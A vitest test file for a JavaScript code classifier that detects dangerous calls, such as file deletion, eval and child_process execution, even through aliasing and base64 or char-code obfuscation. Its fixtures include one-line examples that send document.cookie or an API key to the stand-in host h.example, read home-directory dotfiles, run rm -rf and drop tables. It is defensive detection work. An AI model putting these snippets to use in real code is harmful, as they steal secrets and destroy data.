import { describe, expect, it } from "vitest";
import type { Language } from "../../../../src/core/classify/fact.ts";
import { readJavaScript } from "../../../../src/core/classify/javascript/reader.ts";
import { threadMs } from "../../../support/cpu.ts";
import { findingsOf, type ReaderFindings } from "../../../support/reader-findings.ts";

const read = (text: string): ReaderFindings => findingsOf(readJavaScript, text);

const calls = (text: string): string[] =>
	read(text)
		.facts.filter(({ kind }) => kind === "call")
		.flatMap(({ has }) => has["name"]?.[0] ?? []);

describe("names of what is called", () => {
	it.each([
		["require('fs').rmSync('a')", "fs.rmSync"],
		["const f = require('node:fs'); f.rmSync('a')", "fs.rmSync"],
		["const { rmSync: gone } = require('fs'); gone('a')", "fs.rmSync"],
		["import { rmSync as gone } from 'fs'; gone('a')", "fs.rmSync"],
		["import f from 'fs'; f.promises.rm('a')", "fs.rm"],
		["import * as f from 'fs/promises'; f.rm('a')", "fs.rm"],
		["const f = require('f' + 's'); f['rm' + 'Sync']('a')", "fs.rmSync"],
		["const g = fs.rmSync; g('a')", "fs.rmSync"],
		["globalThis.eval('1')", "eval"],
		["(await import('fs')).x; require?.('fs')\nfetch('x')", "fetch"],
		["new Function('return process')().mainModule.require('child_process').exec('a')", "child_process.exec"],
		[
			"const { promisify } = require('util'); const e = promisify(require('child_process').exec); e('a')",
			"child_process.exec",
		],
		["const F = (() => {}).constructor; F('a')()", "Function"],
		["image.src = 'https://h.example/?' + document.cookie", "network.send"],
		["`a \u0024{eval('1')}`", "eval"],
		["const f = require('fs'); f[atob('cm1TeW5j')]('a')", "fs.rmSync"],
		["const f = require('fs'); f[Buffer.from('cm1TeW5j', 'base64').toString()]('a')", "fs.rmSync"],
		["const f = require('fs'); f[Buffer.from([0x72, 109]).toString('utf8') + 'Sync']('a')", "fs.rmSync"],
		["const f = require('fs'); f[String.fromCharCode(114, 109)]('a')", "fs.rm"],
		["const f = require('fs'); f['cnySmr'.replace('c', '').split('').reverse().join('')]('a')", "fs.rmSyn"],
		["const f = require('fs'); f[['rm', 'Sync'].join('')]('a')", "fs.rmSync"],
		["const f = require('fs'); Reflect.get(f, 'rmSync')('a')", "fs.rmSync"],
		["const f = require('fs'); Object.getOwnPropertyDescriptor(f, 'rm').value('a')", "fs.rm"],
		["const f = require('fs'); f[Object.keys(f).find((n) => n === 'rm')]('a')", "fs.rm"],
		["const f = require('fs'); Object.entries(f).filter(([n]) => n === 'rm')[0][1]('a')", "fs.rm"],
		["const f = require('fs'); f['rm']('a')", "veiled"],
		["self[pick(i)](u)", "veiled"],
		["const e = require('ejs'); e.render(req.query.t)", "input.to-code"],
		["require(process.argv[2])", "input.to-code"],
		["execSync('a b')", "child_process.execSync"],
		["var _0x1a2b = _0x3c4d, _0x5e6f = _0x3c4d(); _0x1a2b(_0x5e6f)", "garbled"],
	])("%s", (code, name) => expect(calls(code)).toContain(name));

	it.each([
		["// eval(x)", "eval"],
		["/* eval(x) */ let a = 'eval(y)'", "eval"],
		["const a = b / 2; const c = /eval(x)/.test(d)", "eval"],
		["model.eval()", "eval"],
		["function eval(x) {}", "eval"],
		["const t = table['row'](1)", "veiled"],
		["const o = new node.constructor()", "node.constructor"],
		["const m = spawn(machine)", "child_process.spawn"],
		["const e = require('ejs'); e.render(page, { user: req.user })", "input.to-code"],
	])("%s calls no %s", (code, name) => expect(calls(code)).not.toContain(name));
});

it.each<[string, Language, string]>([
	["require('child_process').exec('a ' + 'b')", "shell", "a b"],
	["const cp = require('child_process'); const c = 'a b'; cp.execSync(c)", "shell", "a b"],
	["const cp = require('child_process'); cp.spawn('rm', ['-rf', 'a b'])", "shell", "rm -rf 'a b'"],
	["const cp = require('child_process'); cp.exec(`a \u0024{x}`)", "shell", "a $v"],
	["eval('\\x61lert(1)')", "javascript", "alert(1)"],
	["fetch('https://h.example/a')", "url", "https://h.example/a"],
	["await db.query('DROP TABLE a')", "sql", "DROP TABLE a"],
	["await prisma.$executeRaw`TRUNCATE TABLE a CASCADE`", "sql", "TRUNCATE TABLE a CASCADE"],
])("%s is read within", (code, language, text) => expect(read(code).within).toContainEqual({ language, text }));

it.each([
	["fs.readFileSync(os.homedir() + '/.a')", "~/.a"],
	["fs.readFileSync(path.join(os.homedir(), '.a', 'b'))", "~/.a/b"],
	["const h = process.env.HOME; fs.readFileSync(`a`); fs.readFileSync(h + '/.b')", "~/.b"],
])("finds the file of %s", (code, path) => {
	expect(read(code).facts.flatMap(({ kind, has }) => (kind === "path" ? (has["path"] ?? []) : []))).toContain(path);
});

it.each([
	["const k = process.env.API_KEY; fetch('https://h.example', { body: k })", "secret"],
	["const d = fs.readFileSync('a'); const r = https.request(o); r.end(d)", "file"],
	["fetch('https://h.example', { body: 'a' })", undefined],
])("knows what %s hands over", (code, carried) => {
	const sent = read(code).facts.filter(({ kind, has }) => kind === "call" && has["carries"] !== undefined);
	expect(sent.at(-1)?.has["carries"]?.[0]).toBe(carried);
});

it("takes the method of a request from its settings", () => {
	const { facts } = read("fetch('https://h.example/a', { method: 'DELETE' })");
	expect(facts.find(({ kind }) => kind === "request")?.has["method"]).toEqual(["DELETE"]);
});

it("gives spans in the text", () => {
	const code = "let a = 1;\nfs.rmSync( 'b' );";
	const fact = read(code).facts.find(({ has }) => has["name"]?.includes("fs.rmSync"));
	expect(code.slice(...(fact?.span ?? [0, 0]))).toBe("fs.rmSync( 'b' )");
});

it.each(["f(", "a.", "'", "`", "`${", "/*", "=/", "x=", "{", "\\", "require('a')."])(
	"reads %j over and over in time that grows with the text",
	(part) => {
		const began = threadMs();
		read(part.repeat(Math.ceil(60_000 / part.length)));
		expect(threadMs() - began).toBeLessThan(1_000);
	},
);
